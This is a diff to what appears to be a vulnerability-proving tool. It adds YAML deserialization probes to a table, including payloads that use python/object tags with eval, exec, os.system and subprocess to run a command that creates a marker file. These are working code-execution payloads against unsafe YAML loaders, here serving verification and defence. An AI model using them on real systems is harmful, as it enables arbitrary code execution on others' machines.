@@ -12,12 +12,24 @@ from buckler.finding.evidence import ProofKind
 from buckler.prove.model import Attack, Oracle, Probe, ProofRecipe, SinkContext
 
 PROBE = Path(__file__).with_name("probe.py")
+MAKE = "__import__('os').system('touch {marker}')"
 YAML_ROWS = (
     ("!!python/object/apply:os.system ['touch {marker}']", "a call"),
     ("!!python/object/new:os.system ['touch {marker}']", "a new object"),
     ("!!python/object/apply:subprocess.check_output [['touch', '{marker}']]", "another call"),
     ("!!python/object/apply:builtins.open ['{marker}', 'w']", "a builtin"),
     ("!!python/object/apply:builtins.open\x85['{marker}','w']", "a builtin and no space"),
+    (
+        f'!!python/object/new:tuple [!!python/object/new:map [!!python/name:eval , ["{MAKE}"]]]',
+        "a function by its name",
+    ),
+    (
+        (
+            "!!python/object/new:type\nargs: [z, !!python/tuple [], {{extend: !!python/name:exec }}]\n"
+            f'listitems: "{MAKE}"\n'
+        ),
+        "a class with a method of the attacker's choice",
+    ),
 )
 OBJECT = "pickle.dumps(Leaves(marker))"
 PICKLED = [
